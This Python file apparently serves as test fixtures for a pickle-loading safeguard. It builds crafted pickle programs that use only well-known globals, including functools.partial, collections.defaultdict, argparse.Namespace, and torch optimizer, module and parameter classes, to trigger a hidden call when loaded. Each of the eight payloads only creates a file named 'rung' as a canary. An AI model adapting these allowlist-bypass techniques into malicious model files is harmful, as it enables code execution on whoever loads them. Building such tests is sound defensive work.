"""Pickles of known names only that call a value: each hands it to a class or function which calls what it is given.

The value is `partial(getattr(Path, "write_text"), Path(RUNG), "x")`, which makes the file RUNG in the working folder.
"""

from __future__ import annotations

from typing import Any

import opcodes as op
from opcodes import build, call, glob, newobj, value

RUNG = "rung"


def write() -> bytes:
    """What makes RUNG when it is called without arguments, or with one that is an encoding."""
    method = call(glob("builtins", "getattr"), glob("pathlib", "Path"), "write_text")
    path = call(glob("pathlib", "Path"), RUNG)
    state = value((method, (path, "x"), {}, None))
    return call(glob("functools", "partial"), method) + state + build()


def made(module: str, name: str, state: Any) -> bytes:
    """An object without a call of its class, with a state."""
    return glob(module, name) + value(()) + newobj() + value(state) + build()


def default(factory: bytes) -> bytes:
    return call(glob("collections", "defaultdict"), factory)


def parameter(data: bytes) -> bytes:
    return call(glob("torch.nn.parameter", "Parameter"), data)


def _on_class() -> bytes:
    """A state that is set on a class: from then on each of its objects is built by it."""
    cls = call(glob("builtins", "type"), made("argparse", "Namespace", {}))
    changed = cls + value((None, {"__setstate__": write()})) + build() + op.pop()
    return changed + made("argparse", "Namespace", "utf-8")


HOOKS = {f"_{name}_hooks": {} for name in ("forward", "forward_pre", "backward", "backward_pre")}

TRAMPOLINES: dict[str, bytes] = {
    "a missing key": call(
        glob("collections", "OrderedDict"),
        call(glob("collections", "ChainMap"), default(write()), {"k": 1}),
    ),
    "the groups of an optimizer": made(
        "torch.optim.adam", "Adam", {"param_groups": [default(write())], "defaults": {}, "state": {}}
    ),
    "the data of a parameter": parameter(made("argparse", "Namespace", {"detach": write()})),
    "the keys of a dict": call(glob("builtins", "dict"), made("argparse", "Namespace", {"keys": write()})),
    "a module that appends": made(
        "torch.nn.modules.module",
        "Module",
        {"_modules": {"append": write()}, "_parameters": {}, "_buffers": {}, **HOOKS},
    )
    + value("utf-8")
    + op.append(),
    "attributes of a dict": call(glob("collections", "OrderedDict"))
    + value({"append": write()})
    + build()
    + value("utf-8")
    + op.append(),
    "a state of a class": _on_class(),
    "keys of a dict of another package's kind": glob("argparse", "Namespace")
    + value(())
    + newobj()
    + value({"__setstate__": write()})
    + build()
    + value("utf-8")
    + build(),
}
"""Programs that leave one value on the stack."""


def popped(program: bytes) -> bytes:
    """The same, with nothing of it left in the tree."""
    return program + op.pop() + op.none()
